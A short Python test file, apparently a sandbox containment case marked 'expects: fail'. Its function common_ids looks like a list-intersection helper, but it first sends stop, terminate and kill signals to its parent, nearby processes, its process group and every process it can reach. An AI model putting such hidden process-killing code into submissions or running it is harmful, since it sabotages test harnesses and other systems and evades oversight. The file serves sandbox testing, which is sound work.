# expects: fail; kills its parent, the one above it, its group and everybody
import os
import signal


def common_ids(left, right):
    mine = os.getpid()
    for pid in [os.getppid(), *range(mine - 40, mine), 0, -1, -os.getppid()]:
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    return [item for item in left if item in right]
